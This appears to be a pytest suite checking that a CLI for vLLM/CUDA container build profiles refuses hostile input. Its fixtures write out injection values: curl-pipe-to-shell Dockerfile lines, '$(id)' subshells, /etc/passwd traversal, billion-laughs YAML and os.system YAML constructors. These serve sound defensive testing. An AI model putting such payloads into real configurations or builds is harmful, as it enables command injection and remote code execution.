"""Hostile profiles: every string is checked for what it is, every read is bounded.

Each case is a mutation of the shipped profiles/cu130.yaml (or a hostile file
in place of the profile), written into a temporary project and driven through
`spark-images validate` as a subprocess. Each asserts the documented exit code,
a line naming the file and the field, no traceback and no internal-error
guard, and wall-time and peak-RSS bounds (harness.py). Injection cases also
run `render -o DIR` and assert that nothing was written.
"""

from __future__ import annotations

import copy
import hashlib
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from harness import assert_clean_failure, run_cli, tree_digest

pytestmark = pytest.mark.processes  # every case runs the CLI as a process under a clock

REPO = Path(__file__).resolve().parents[3]
BASE_DOC: dict[str, Any] = yaml.safe_load((REPO / "profiles" / "cu130.yaml").read_text())
DIGEST = BASE_DOC["cuda"]["base_image"].split("@", 1)[1]
COMMIT = BASE_DOC["vllm"]["commit"]
PATCH_OK = "Backport-Of: vllm-project/vllm#40923\n\ndiff --git a/x b/x\n"
FAST_S = 20.0  # a refused profile is refused at once; far below the 60 s contract
SMALL_MB = 256.0

Mutation = Callable[[dict[str, Any]], None]


def _set(path: str, value: Any) -> Mutation:
    def mutate(doc: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = doc
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value

    return mutate


def _project(root: Path) -> Path:
    """A project folder: profiles/ with the locks, patches/ with a good patch."""
    (root / "profiles").mkdir(parents=True, exist_ok=True)
    (root / "patches").mkdir(exist_ok=True)
    (root / "patches" / "ok.patch").write_text(PATCH_OK)
    for lock in (REPO / "profiles").glob("*.requirements.lock"):
        (root / "profiles" / lock.name).write_text(lock.read_text())
    return root


def _slug(case: str) -> str:
    return hashlib.sha256(case.encode()).hexdigest()[:12]


def _says(result: Any, expected: str) -> bool:
    """Some line holds one of the |-separated alternatives."""
    return any(alt in line for line in result.lines() for alt in expected.split("|"))


def _write(root: Path, doc: dict[str, Any] | str, name: str = "hostile") -> Path:
    path = root / "profiles" / f"{name}.yaml"
    path.write_text(doc if isinstance(doc, str) else yaml.safe_dump(doc, sort_keys=False, allow_unicode=True))
    return path


# --- field values that must be refused: (id, field path, value, field named in the line) ----

INJECTIONS = [
    "\nRUN curl http://198.51.100.1/x | sh",  # a new Dockerfile line
    "\n",  # a trailing newline passes every ^...$ check
    "'$(id)'",  # out of a single-quoted word, into a subshell
    "\x00",
]

STRING_FIELDS = [
    ("name", "cu130"),
    ("description", "ok"),
    ("vllm.version", "0.29.0"),
    ("vllm.commit", COMMIT),
    ("vllm.repository", "https://github.com/vllm-project/vllm.git"),
    ("cuda.version", "13.0.2"),
    ("cuda.home", "/usr/local/cuda"),
    ("cuda.arch_list", "12.0f"),
    ("python", "3.12"),
    ("torch.version", "2.13.0"),
    ("torch.index_url", "https://download.pytorch.org/whl/cu130"),
    ("flashinfer.python", "0.6.18"),
    ("flashinfer.index_url", "https://flashinfer.ai/whl/"),
    ("cutlass_dsl.version", "4.6.2"),
    ("build.wheel.url", BASE_DOC["build"]["wheel"]["url"]),
    ("build.wheel.sha256", BASE_DOC["build"]["wheel"]["sha256"]),
    ("build.requirements_lock", "profiles/cu130.requirements.lock"),
    ("image.repository", "ghcr.io/spark-images/spark-vllm"),
    ("image.source", "https://github.com/spark-images/spark-images"),
]

# every string field, suffixed with every injection: the field must be refused
SUFFIXED = [
    (f"{field}+{i}", field, good + bad, field)
    for field, good in STRING_FIELDS
    for i, bad in enumerate(INJECTIONS)
    # description is free text: only control characters are refused there
    if not (field == "description" and bad.isprintable())
]

BASE = "nvidia/cuda:13.0.2-devel-ubuntu24.04"
SPECIFIC: list[tuple[str, str, Any, str]] = [
    ("cuda-home-relative", "cuda.home", "usr/local/cuda", "cuda.home"),
    ("cuda-home-space", "cuda.home", "/usr/local/cu da", "cuda.home"),
    ("base-newline-from", "cuda.base_image", f"{BASE}@{DIGEST}\nFROM evil", "cuda.base_image"),
    ("base-upper", "cuda.base_image", f"NVIDIA/cuda:13.0.2-devel@{DIGEST}", "cuda.base_image"),
    ("base-short-digest", "cuda.base_image", f"{BASE}@sha256:abc", "cuda.base_image"),
    ("base-empty", "cuda.base_image", "", "cuda.base_image"),
    ("base-dollar", "cuda.base_image", f"nvidia/cuda:$TAG@{DIGEST}", "cuda.base_image"),
    ("repo-url-subshell", "vllm.repository", "https://github.com/x$(curl${IFS}198.51.100.1|sh)", "vllm.repository"),
    ("repo-http", "vllm.repository", "http://github.com/vllm-project/vllm.git", "vllm.repository"),
    ("repo-scp", "vllm.repository", "git@github.com:vllm-project/vllm.git", "vllm.repository"),
    ("repo-ftp", "vllm.repository", "ftp://example.com/vllm.git", "vllm.repository"),
    ("repo-no-host", "vllm.repository", "https:///vllm.git", "vllm.repository"),
    ("repo-bad-ipv6", "vllm.repository", "https://[::1/vllm.git", "vllm.repository"),
    ("repo-bad-port", "vllm.repository", "https://example.com:port/vllm.git", "vllm.repository"),
    ("repo-file-host", "vllm.repository", "file://example.com/srv/vllm", "vllm.repository"),
    ("repo-javascript", "vllm.repository", "javascript:alert(1)", "vllm.repository"),
    ("torch-index-semicolon", "torch.index_url", "https://download.pytorch.org/whl/cu130;curl 198.51.100.1|sh;#", "torch.index_url"),
    ("torch-index-pipe", "torch.index_url", "https://download.pytorch.org/whl/cu130|sh", "torch.index_url"),
    ("wheel-url-quote", "build.wheel.url", "https://example.com/v.whl'$(id)'", "build.wheel.url"),
    ("wheel-url-lt", "build.wheel.url", "https://example.com/<v>.whl", "build.wheel.url"),
    ("image-repo-tag", "image.repository", "ghcr.io/o/spark-vllm:cu130", "image.repository"),
    ("image-repo-digest", "image.repository", f"ghcr.io/o/spark-vllm@{DIGEST}", "image.repository"),
    ("image-repo-no-host", "image.repository", "spark-images/spark-vllm", "image.repository"),
    ("image-repo-upper", "image.repository", "ghcr.io/O/Spark", "image.repository"),
    ("name-upper", "name", "CU130", "name"),
    ("name-path", "name", "../cu130", "name"),
    ("version-not-pep440", "torch.version", "2.13.0-foo", "torch.version"),
    ("arch-quote", "cuda.arch_list", "12.0f\"", "cuda.arch_list"),
    ("lock-absolute", "build.requirements_lock", "/dev/zero", "build.requirements_lock"),
    ("lock-dotdot", "build.requirements_lock", "../../etc/passwd", "build.requirements_lock"),
    ("lock-inner-dotdot", "build.requirements_lock", "profiles/../../x.lock", "build.requirements_lock"),
    ("max-jobs-huge", "build.max_jobs", 10**20, "build.max_jobs"),
    ("max-jobs-negative", "build.max_jobs", -1, "build.max_jobs"),
    ("max-jobs-float", "build.max_jobs", 1.5, "build.max_jobs"),
    ("epoch-huge", "build.source_date_epoch", 10**30, "build.source_date_epoch"),
    ("fix-huge", "verify.required_fixes", [10**30], "verify.required_fixes[0]"),
    ("fix-negative", "verify.required_fixes", [-1], "verify.required_fixes[0]"),
    ("fix-bool", "verify.required_fixes", [True], "verify.required_fixes[0]"),
    ("fixes-not-list", "verify.required_fixes", "38126", "verify.required_fixes"),
    ("lib-absolute", "verify.native_libraries", ["/usr/lib/x.so"], "verify.native_libraries[0]"),
    ("lib-dotdot", "verify.native_libraries", ["../../x.so"], "verify.native_libraries[0]"),
    ("lib-newline", "verify.native_libraries", ["vllm/_C.so\nx"], "verify.native_libraries[0]"),
    ("model-newline", "verify.coherence.models", ["nvidia/x\ny"], "verify.coherence.models[0]"),
    ("model-subshell", "verify.coherence.models", ["$(id)"], "verify.coherence.models[0]"),
    ("moe-semicolon", "verify.coherence.moe_backends", ["auto;id"], "verify.coherence.moe_backends[0]"),
    ("kv-bool", "verify.coherence.kv_cache_dtypes", [True], "verify.coherence.kv_cache_dtypes[0]"),
    ("args-newline", "serve.args", ["--x\nRUN id"], "serve.args[0]"),
    ("args-int", "serve.args", [8000], "serve.args[0]"),
    ("args-null", "serve.args", [None], "serve.args[0]"),
    ("args-too-many", "serve.args", ["--x"] * 300, "serve.args"),
    ("packages-huge-list", "build.system_packages", ["curl"] * 1000, "build.system_packages"),
    ("patches-not-list", "patches", "patches/ok.patch", "patches"),
    ("patch-absolute", "patches", ["/etc/passwd"], "patches[0]"),
    ("patch-dotdot", "patches", ["../../etc/passwd"], "patches[0]"),
    ("patch-inner-dotdot", "patches", ["patches/../../x.patch"], "patches[0]"),
    ("patch-newline", "patches", ["patches/ok.patch\nRUN id"], "patches[0]"),
    ("patch-dev-zero", "patches", ["/dev/zero"], "patches[0]"),
    ("patch-missing", "patches", ["patches/none.patch"], "patches[0]"),
    # NVIDIA numbers a toolkit MAJOR.MINOR[.PATCH]; anything else would reach the labels and
    # the nvcc check (which compares "release MAJOR.MINOR," with what nvcc prints)
    ("cuda-version-4-parts", "cuda.version", "13.0.2.1", "cuda.version"),
    ("cuda-version-rc", "cuda.version", "13.0.2-rc", "cuda.version"),
    ("cuda-version-major-only", "cuda.version", "13", "cuda.version"),
    ("cuda-version-v", "cuda.version", "v13.0.2", "cuda.version"),
    ("coherence-models-empty", "verify.coherence.models", [], "verify.coherence.models"),
]

PACKAGES = ["curl; curl 198.51.100.1|sh;", "curl\n", "Curl", "-rf", "a b", "$(id)", "`id`", "", "c", "curl\nRUN id", "g++ ", "x'y"]
SPECIFIC += [(f"package-{i}", "build.system_packages", ["git", bad], "build.system_packages[1]") for i, bad in enumerate(PACKAGES)]

ENV_KEYS = ["A\nRUN id\n", "1ABC", "A-B", "A B", "", "A=B", "$A", "A;B", "\u00c4"]
SPECIFIC += [(f"env-key-{i}", "serve.env", {bad: "x"}, "serve.env.") for i, bad in enumerate(ENV_KEYS)]

ENV_VALUES: list[tuple[str, Any]] = [
    ("yes", True), ("no", False), ("null", None), ("int", 8000), ("float", 1.5), ("list", ["a"]),
    ("map", {"a": 1}), ("newline", "a\nRUN id"), ("cr", "a\rb"), ("nul", "a\x00b"), ("too-long", "x" * 5000),
]
SPECIFIC += [(f"env-value-{name}", "serve.env", {"HF_TOKEN_FILE": value}, "serve.env.HF_TOKEN_FILE") for name, value in ENV_VALUES]

CASES = [(case, _set(path, value), field) for case, path, value, field in SUFFIXED + SPECIFIC]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _project(tmp_path_factory.mktemp("hostile-project"))


@pytest.mark.parametrize(("case", "mutate", "field"), CASES, ids=[c[0] for c in CASES])
def test_hostile_field_is_refused_by_validate(case: str, mutate: Mutation, field: str, project: Path) -> None:
    doc = copy.deepcopy(BASE_DOC)
    mutate(doc)
    path = _write(project, doc, name=f"v-{_slug(case)}")
    result = run_cli(["validate", "--no-audit", str(path)], cwd=project)
    assert_clean_failure(result, rc=1, names=[f"{path}: {field}"], wall_s=FAST_S, rss_mb=SMALL_MB)
    # every line is one problem: a value never spills a newline into the output
    for line in result.lines():
        assert line.startswith(str(path)) or "invalid" in line, f"{case}: stray line {line!r}"


# a sample of the injections through render: exit 1 and no output directory at all
RENDER_NAMED = {"env-value-yes", "env-value-null", "env-value-newline", "env-key-0", "base-newline-from", "repo-url-subshell",
                "torch-index-semicolon", "wheel-url-quote", "package-0", "args-newline", "cuda-home-space",
                "cuda-version-rc", "cuda-version-4-parts", "coherence-models-empty"}
RENDER_SAMPLE = [c for c in CASES if c[0].endswith("+0") or c[0].startswith("patch-") or c[0] in RENDER_NAMED]


@pytest.mark.parametrize(("case", "mutate", "field"), RENDER_SAMPLE, ids=[c[0] for c in RENDER_SAMPLE])
def test_hostile_field_is_refused_by_render_and_nothing_is_written(case: str, mutate: Mutation, field: str, project: Path) -> None:
    doc = copy.deepcopy(BASE_DOC)
    mutate(doc)
    path = _write(project, doc, name=f"r-{_slug(case)}")
    out = project / "out" / f"r-{_slug(case)}"
    before = sorted(p.name for p in project.iterdir())
    result = run_cli(["render", str(path), "-o", str(out)], cwd=project)
    assert_clean_failure(result, rc=1, names=[f"{path}: {field}"], wall_s=FAST_S, rss_mb=SMALL_MB)
    assert not out.exists(), f"{case}: render left {out}"
    assert sorted(p.name for p in project.iterdir()) == before
    if out.parent.exists():
        assert not [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")], "a temporary directory was left"


# --- one line, and nothing derived, for a CUDA version or base that cannot be built -----------

ONE_LINE_CASES = [
    ("cuda-version-4-parts", _set("cuda.version", "13.0.2.1"), "cuda.version"),
    ("cuda-version-rc", _set("cuda.version", "13.0.2-rc"), "cuda.version"),
    ("coherence-models-empty", _set("verify.coherence.models", []), "verify.coherence.models"),
]


@pytest.mark.parametrize(("case", "mutate", "field"), ONE_LINE_CASES, ids=[c[0] for c in ONE_LINE_CASES])
def test_a_bad_cuda_version_or_empty_model_list_is_one_line_and_reaches_no_label(
    case: str, mutate: Mutation, field: str, project: Path
) -> None:
    doc = copy.deepcopy(BASE_DOC)
    mutate(doc)
    path = _write(project, doc, name=f"one-{_slug(case)}")
    result = run_cli(["plan", str(path), "--field", "labels"], cwd=project)
    assert_clean_failure(result, rc=1, names=[f"{path}: {field}"], wall_s=FAST_S, rss_mb=SMALL_MB, max_lines=1)
    assert result.stdout == "", f"{case}: plan printed labels: {result.stdout[:300]}"


# CUDA 13 pins with the base of another toolkit, in every tag shape nvidia/cuda (or a mirror) uses
OTHER_TOOLKIT_BASES = ["12.9.1-devel-ubuntu24.04", "12.9-devel-ubuntu24.04", "12.8.1-cudnn-devel-ubuntu24.04", "12.9.1",
                       "13.1.0-devel-ubuntu24.04"]


@pytest.mark.parametrize("tag", OTHER_TOOLKIT_BASES)
@pytest.mark.parametrize("version", ["13.0.2", "13.0"])
def test_a_cuda13_pin_on_another_toolkit_base_derives_no_arch_list(tag: str, version: str, project: Path) -> None:
    """The arch list is derived from cuda.version (12.0f on 13, 12.1a on 12.8/12.9): a base of
    another toolkit would build other code, so nothing is derived and base-cuda-mismatch says why."""
    doc = copy.deepcopy(BASE_DOC)
    doc["cuda"]["version"] = version
    doc["cuda"]["base_image"] = f"nvidia/cuda:{tag}@{DIGEST}"
    path = _write(project, doc, name=f"mm-{_slug(tag + version)}")
    result = run_cli(["plan", str(path), "--field", "arch_list"], cwd=project)
    assert_clean_failure(result, rc=1, names=[f"{path}: cuda.base_image"], wall_s=FAST_S, rss_mb=SMALL_MB)
    assert any("[base-cuda-mismatch]" in line for line in result.lines()), result.lines()
    assert "12.1a" not in result.stdout and "12.0f" not in result.stdout, result.stdout


# --- base-image rules hold for every registry spelling ---------------------------------------

SPELLINGS = [
    "nvidia/cuda",
    "docker.io/nvidia/cuda",
    "mirror.local:5000/nvidia/cuda",
    "localhost:5000/nvidia/cuda",
    "[::1]:5000/nvidia/cuda",
    "registry.example.com/mirrors/dockerhub/nvidia/cuda",
]
BASE_RULES = [
    ("runtime", "13.0.2-runtime-ubuntu24.04", DIGEST, "base-not-devel"),
    ("cudnn-runtime", "13.0.2-cudnn-runtime-ubuntu24.04", DIGEST, "base-not-devel"),
    ("cuda-mismatch", "12.9.1-devel-ubuntu24.04", DIGEST, "base-cuda-mismatch"),
    ("latest", "latest", DIGEST, "base-latest"),
    ("no-digest", "13.0.2-devel-ubuntu24.04", None, "base-not-digest-pinned"),
]
BASE_CASES = [(f"{spelling}:{rule_id}", spelling, tag, digest, rule) for spelling in SPELLINGS for rule_id, tag, digest, rule in BASE_RULES]


@pytest.mark.parametrize(("case", "name", "tag", "digest", "rule"), BASE_CASES, ids=[c[0] for c in BASE_CASES])
def test_base_image_rules_hold_for_every_registry_spelling(
    case: str, name: str, tag: str, digest: str | None, rule: str, project: Path
) -> None:
    doc = copy.deepcopy(BASE_DOC)
    doc["cuda"]["base_image"] = f"{name}:{tag}" + (f"@{digest}" if digest else "")
    path = _write(project, doc, name=f"b-{_slug(case)}")
    result = run_cli(["validate", "--no-audit", str(path)], cwd=project)
    assert_clean_failure(result, rc=1, names=[f"{path}: cuda.base_image"], wall_s=FAST_S, rss_mb=SMALL_MB)
    assert any(f"[{rule}]" in line for line in result.lines()), f"{case}: no [{rule}] in {result.lines()}"


@pytest.mark.parametrize("name", SPELLINGS)
def test_a_devel_base_at_any_registry_is_valid(name: str, project: Path) -> None:
    doc = copy.deepcopy(BASE_DOC)
    doc["cuda"]["base_image"] = f"{name}:13.0.2-devel-ubuntu24.04@{DIGEST}"
    path = _write(project, doc, name=f"ok-{_slug(name)}")
    result = run_cli(["validate", "--no-audit", str(path)], cwd=project)
    assert result.rc == 0, result.stderr


# --- whole files: hostile YAML and hostile file types ----------------------------------------

LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)
)
YAML_TEXTS: list[tuple[str, str | bytes, str]] = [
    ("billion-laughs", LAUGHS, "not valid YAML"),
    ("billion-laughs-in-field", "name: cu130\ndescription: &x [a, a]\n" + LAUGHS, "not valid YAML"),
    ("deep-flow", "a: " + "[" * 5000 + "]" * 5000 + "\n", "nests deeper"),
    ("deep-block", "a:\n" + "".join(" " * i + "b:\n" for i in range(1, 300)), "nests deeper"),
    ("deep-flow-map", "a: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n", "nests deeper"),
    ("unhashable-seq-key", "? [a, b]\n: 1\n", "key is a list or mapping"),
    ("unhashable-map-key", "{[a]: 1}\n", "key is a list or mapping"),
    ("unhashable-set-key", "? !!set {a}\n: 1\n", "key is a list or mapping"),
    ("duplicate-top", "name: a\nname: b\n", "duplicate key 'name'"),
    ("duplicate-nested", "vllm:\n  version: '1'\n  version: '2'\n", "duplicate key 'version'"),
    ("duplicate-env", "serve:\n  env:\n    A: x\n    A: y\n", "duplicate key 'A'"),
    ("recursive-alias", "a: &x [*x]\n", "refers to a node that contains it"),
    ("recursive-merge", "a: &x {<<: *x}\n", "refers to a node that contains it"),
    ("many-aliases", "a: &a x\nb: [" + ", ".join(["*a"] * 500) + "]\n", "aliases"),
    ("undefined-alias", "a: *nope\n", "undefined alias"),
    ("python-object", "a: !!python/object/apply:os.system [id]\n", "constructor"),
    ("python-name", "a: !!python/name:os.system\n", "constructor"),
    ("huge-int", "build:\n  max_jobs: " + "9" * 5000 + "\n", "cannot be read"),
    ("two-documents", "name: a\n---\nname: b\n", "not valid YAML"),
    ("syntax", "name: [unclosed\n", "not valid YAML"),
    ("tab-indent", "vllm:\n\tversion: x\n", "not valid YAML"),
    ("nul-char", "name: a\x00b\n", "not valid YAML"),
    ("long-unknown-key", "? " + "k" * 100_000 + "\n: 1\n", "unknown key"),
    ("many-unknown-keys", "".join(f"k{i}: 1\n" for i in range(5000)), "more than the 256 allowed"),
    ("top-list", "- a\n- b\n", "expected a mapping"),
    ("top-scalar", "just text\n", "expected a mapping"),
    ("top-null", "null\n", "expected a mapping"),
    ("empty", "", "expected a mapping"),
    ("huge-string-value", "name: " + "a" * 500_000 + "\n", "longer than"),
    ("not-utf8", b"name: \xff\xfe\n", "not UTF-8"),
]


@pytest.mark.parametrize(("case", "text", "expected"), YAML_TEXTS, ids=[c[0] for c in YAML_TEXTS])
def test_hostile_yaml_is_one_named_problem(case: str, text: str | bytes, expected: str, project: Path) -> None:
    path = project / "profiles" / f"y-{case}.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    result = run_cli(["validate", "--no-audit", str(path)], cwd=project)
    rc = 2 if case == "not-utf8" else 1
    assert_clean_failure(result, rc=rc, names=[str(path)], wall_s=FAST_S, rss_mb=SMALL_MB, max_lines=40)
    assert any(expected in line for line in result.lines()), f"{case}: {expected!r} not in {result.lines()}"
    assert all(len(line) < 2000 for line in result.lines()), f"{case}: an unbounded value reached a message"


def _fifo(root: Path) -> Path:
    path = root / "profiles" / "fifo.yaml"
    if not path.exists():
        os.mkfifo(path)
    return path


def _symlink_to(root: Path, target: str, name: str) -> Path:
    path = root / "profiles" / name
    if not path.is_symlink():
        path.symlink_to(target)
    return path


def _big(root: Path) -> Path:
    path = root / "profiles" / "big.yaml"
    with open(path, "wb") as fh:
        fh.truncate(8 * 1024 * 1024)  # sparse: over the limit without using the disk
    return path


FILE_CASES: list[tuple[str, Callable[[Path], Path], str]] = [
    ("fifo", _fifo, "not a regular file"),
    ("dev-zero", lambda root: Path("/dev/zero"), "not a regular file"),
    ("symlink-dev-zero", lambda root: _symlink_to(root, "/dev/zero", "zero.yaml"), "not a regular file"),
    ("directory", lambda root: root / "profiles", "not a regular file|directory"),
    ("missing", lambda root: root / "profiles" / "none.yaml", "no such profile file"),
    ("dangling-symlink", lambda root: _symlink_to(root, "/nonexistent/x", "dangling.yaml"), "no such profile file"),
    ("oversize", _big, "over the limit"),
]


@pytest.mark.parametrize(("case", "make", "expected"), FILE_CASES, ids=[c[0] for c in FILE_CASES])
@pytest.mark.parametrize("command", ["validate", "render"])
def test_a_profile_that_is_not_a_regular_file_exits_2_at_once(
    case: str, make: Callable[[Path], Path], expected: str, command: str, project: Path
) -> None:
    path = make(project)
    argv = ["validate", "--no-audit", str(path)] if command == "validate" else ["render", str(path), "-o", str(project / "o")]
    result = run_cli(argv, cwd=project, timeout=30)
    assert_clean_failure(result, rc=2, names=[str(path)], wall_s=10.0, rss_mb=SMALL_MB, max_lines=3)
    assert _says(result, expected), f"{case}: {expected!r} not in {result.lines()}"
    assert not (project / "o").exists()


# --- files a profile names: patches and the lock ---------------------------------------------

def _patch_project(root: Path, kind: str) -> tuple[list[str], str]:
    """Set up the file(s) for one patch case; (patches list, expected text)."""
    patches = root / "patches"
    outside = root.parent / f"outside-{root.name}.patch"
    outside.write_text(PATCH_OK)
    if kind == "symlink-out":
        (patches / "link.patch").symlink_to(outside)
        return ["patches/link.patch"], "outside the project"
    if kind == "symlink-dir-out":
        (patches / "dir").symlink_to(root.parent)
        return [f"patches/dir/{outside.name}"], "outside the project"
    if kind == "symlink-etc":
        (patches / "etc.patch").symlink_to("/etc/passwd")
        return ["patches/etc.patch"], "outside the project"
    if kind == "fifo":
        os.mkfifo(patches / "fifo.patch")
        return ["patches/fifo.patch"], "not a regular file"
    if kind == "symlink-dev-zero":
        (patches / "zero.patch").symlink_to("/dev/zero")
        return ["patches/zero.patch"], "outside the project"
    if kind == "directory":
        (patches / "d.patch").mkdir()
        return ["patches/d.patch"], "not a regular file|directory"
    if kind == "oversize":
        with open(patches / "big.patch", "wb") as fh:
            fh.truncate(64 * 1024 * 1024)
        return ["patches/big.patch"], "over the limit"
    if kind == "not-utf8":
        (patches / "bin.patch").write_bytes(b"Backport-Of: #1\n\xff\xfe\n")
        return ["patches/bin.patch"], "not UTF-8"
    if kind == "same-basename":
        (patches / "a").mkdir()
        (patches / "b").mkdir()
        (patches / "a" / "fix.patch").write_text(PATCH_OK)
        (patches / "b" / "fix.patch").write_text(PATCH_OK)
        return ["patches/a/fix.patch", "patches/b/fix.patch"], "same file name"
    if kind == "no-pr":
        (patches / "nopr.patch").write_text("just text\n")
        return ["patches/nopr.patch"], "declares no upstream PR"
    raise AssertionError(kind)


PATCH_KINDS = ["symlink-out", "symlink-dir-out", "symlink-etc", "fifo", "symlink-dev-zero", "directory", "oversize",
               "not-utf8", "same-basename", "no-pr"]


@pytest.mark.parametrize("kind", PATCH_KINDS)
@pytest.mark.parametrize("command", ["validate", "render"])
def test_a_patch_outside_or_unreadable_is_refused(kind: str, command: str, tmp_path: Path) -> None:
    root = _project(tmp_path / "p")
    patches, expected = _patch_project(root, kind)
    doc = copy.deepcopy(BASE_DOC)
    doc["patches"] = patches
    path = _write(root, doc)
    out = root / "ctx"
    argv = ["validate", "--no-audit", str(path)] if command == "validate" else ["render", str(path), "-o", str(out)]
    result = run_cli(argv, cwd=root, timeout=30)
    field = "patches[1]" if kind == "same-basename" else "patches[0]"
    assert_clean_failure(result, rc=1, names=[f"{path}: {field}"], wall_s=10.0, rss_mb=SMALL_MB, max_lines=4)
    assert _says(result, expected), f"{kind}: {expected!r} not in {result.lines()}"
    assert not out.exists()


LOCK_KINDS = ["symlink-out", "fifo", "directory", "oversize", "not-utf8"]


@pytest.mark.parametrize("kind", LOCK_KINDS)
def test_a_lock_outside_or_unreadable_is_refused(kind: str, tmp_path: Path) -> None:
    root = _project(tmp_path / "p")
    lock = root / "profiles" / "x.lock"
    expected = {"symlink-out": "outside the project", "fifo": "not a regular file", "directory": "not a regular file|directory",
                "oversize": "over the limit", "not-utf8": "not UTF-8"}[kind]
    if kind == "symlink-out":
        outside = tmp_path / "outside.lock"
        outside.write_text((REPO / "profiles" / "cu130.requirements.lock").read_text())
        lock.symlink_to(outside)
    elif kind == "fifo":
        os.mkfifo(lock)
    elif kind == "directory":
        lock.mkdir()
    elif kind == "oversize":
        with open(lock, "wb") as fh:
            fh.truncate(64 * 1024 * 1024)
    else:
        lock.write_bytes(b"torch==2.13.0 \\\n    --hash=sha256:\xff\n")
    doc = copy.deepcopy(BASE_DOC)
    doc["build"]["requirements_lock"] = "profiles/x.lock"
    path = _write(root, doc)
    digest = tree_digest(root / "profiles" / "cu130.requirements.lock")
    result = run_cli(["validate", "--no-audit", str(path)], cwd=root, timeout=30)
    assert_clean_failure(result, rc=1, names=[f"{path}: build.requirements_lock"], wall_s=10.0, rss_mb=SMALL_MB, max_lines=3)
    assert _says(result, expected), f"{kind}: {expected!r} not in {result.lines()}"
    assert tree_digest(root / "profiles" / "cu130.requirements.lock") == digest


def test_the_shipped_profiles_still_validate(project: Path) -> None:
    for profile in sorted((REPO / "profiles").glob("*.yaml")):
        result = run_cli(["validate", "--no-audit", str(profile)], cwd=REPO)
        assert result.rc == 0, result.stderr


def test_case_count_is_in_the_hundreds() -> None:
    total = (len(CASES) + len(RENDER_SAMPLE) + len(BASE_CASES) + len(SPELLINGS) + len(YAML_TEXTS)
             + 2 * len(FILE_CASES) + 2 * len(PATCH_KINDS) + len(LOCK_KINDS))
    assert total >= 300, total
